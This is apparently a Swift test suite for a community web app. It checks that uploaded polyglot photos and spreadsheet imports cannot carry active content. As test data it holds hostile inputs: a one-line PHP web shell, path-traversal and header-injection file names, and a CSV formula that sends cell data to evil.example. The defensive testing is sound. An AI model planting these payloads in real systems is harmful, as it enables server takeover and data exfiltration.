import Foundation
import HTTPTypes
import HummingbirdTesting
import Kernel
import Logging
import Matters
import NIOCore
import People
import Sheets
import StaffWeb
import Storage
import TestHouse
import Testing
import WebSupport

@testable import longtang

/// Files that are two things at once, and names that lead somewhere.
@Suite struct UploadAttackTests {
  static let script = "<html><script>alert('lt')</script></html>"

  /// A real photo with a page, a program or an archive behind or inside it.
  static let twofold: [(name: String, bytes: Data)] = {
    let photo = BadInputTests.picture(320, 240)
    let comment = Data([0xFF, 0xFE, 0, UInt8(script.utf8.count + 2)]) + Data(script.utf8)
    return [
      ("page-behind.jpg", photo + Data(script.utf8)),
      ("archive-behind.jpg", photo + Data(Table(header: ["甲"], cells: [["=1+1"]]).xlsx(title: "表"))),
      ("page-inside.jpg", photo.prefix(2) + comment + photo.dropFirst(2)),
      ("a.jpg\u{0}.html", photo + Data("<?php system($_GET[0]); ?>".utf8)), ("../../../../keys/seal.jpg", photo), ("..\\..\\a.svg", photo),
      (String(repeating: "长", count: 400) + ".jpg", photo), ("\u{202E}gpj.exe", photo), ("\"; filename=\"b.html", photo),
    ]
  }()

  @Test func whatIsHiddenInAPhotoIsInNoCopyAndRunsNowhere() async throws {
    let scene = try await WholeHouse.make()
    let path = "/c/\(scene.compounds[.own]?.no ?? "")/report"
    let officer = try scene.somebody(.officer)
    let dispatcher = try scene.somebody(.dispatcher)
    try await scene.walk { client in
      for file in Self.twofold {
        let form = try await client.publicForm(path)
        let answer = try await client.upload(
          path, form, [("content", "楼道堆物 \(file.bytes.count)"), ("place", "12号")], [("photos", file.name, file.bytes)])
        #expect(answer.outcome == "r" || answer.outcome == "x", "\(file.name): \(answer.status)")
      }
      let kept = try await scene.house.store.read { db in
        try db.all("SELECT sha256, public_sha256, thumbnail_sha256 FROM report_file ORDER BY id").map {
          (try $0.text("sha256"), [try $0.optionalText("public_sha256"), try $0.optionalText("thumbnail_sha256")].compactMap { $0 })
        }
      }
      #expect(kept.count >= 5)
      for (original, copies) in kept {
        for copy in copies {
          let bytes = try scene.house.vault.bytes(copy)
          for trace in ["script", "PK\u{3}\u{4}", "php", "xl/"] {
            #expect(bytes.firstRange(of: Data(trace.utf8)) == nil, "\(trace) in a copy")
          }
        }
        for sha in [original] + copies {
          for somebody in [officer, dispatcher] {
            let answer = try await client.ask(.get, "/files/\(sha)", as: somebody)
            guard answer.status == .ok else { continue }
            #expect(answer.headers[.contentType] == "image/jpeg" && answer.headers[.xContentTypeOptions] == "nosniff")
            #expect(answer.headers[.contentSecurityPolicy]?.contains("sandbox") == true)
            let disposition = answer.headers[.contentDisposition] ?? ""
            #expect(
              !disposition.contains("\"; filename=\"b") && !disposition.contains("..") && !BadWords.splitsHead(answer.headers),
              "\(disposition)")
          }
          #expect(try await client.ask(.get, "/files/\(sha)").outcome == "s")
        }
      }
    }
  }

  /// Cells that a spreadsheet would run, on their way in by the hotline's file and by a resident, out again by the export.
  @Test func noExportCarriesAFormula() async throws {
    let scene = try await WholeHouse.make()
    let dispatcher = try scene.somebody(.dispatcher)
    let formula = "=HYPERLINK(\"http://evil.example?x=\"&A1)"
    let csv =
      "工单编号,来电时间,来电人,联系电话,案件描述,发生地址,诉求类型\n\"=1+1\",2026-09-23 10:00,@SUM(A1),13800001111,\"\(formula.replacing("\"", with: "\"\""))\",-2+3,投诉\n"
    guard let mapping = scene.composition.mappings.reports.first?.mapping else { throw Refusal(.missing, "test", "no mapping") }
    _ = try await scene.composition.matters.beginImport(Data(csv.utf8), name: "热线.csv", mapping: mapping, by: dispatcher.person)
    var quiet = Logger(label: "test")
    quiet.logLevel = .critical
    let worker = scene.composition.worker(quiet, sessions: .standard)
    while try await worker.runOne() {}
    #expect(try await scene.house.store.read { try $0.number("SELECT count(*) AS n FROM report WHERE source_no = '=1+1'") } == 1)
    let day = scene.clock.now.day
    let seen = Box(0)
    try await scene.walk { client in
      for key in scene.composition.mappings.reports.map(\.key) {
        let answer = try await client.ask(
          .post, "/exports", as: dispatcher,
          form: "mapping=\(key)&from=\(day.adding(days: -40).iso)&through=\(day.iso)&format=csv")
        guard answer.status == .ok else { continue }
        let table = try Table.read(csv: Data(answer.body.readableBytesView))
        if answer.text.contains("'=1+1") { seen.change { $0 += 1 } }
        for row in table.rows { for cell in row.cells { #expect(!FormulaEscape.looksLikeFormula(cell), "\(cell)") } }
      }
    }
    #expect(seen.value == 1, "the row with formulas was in no export")
  }
}
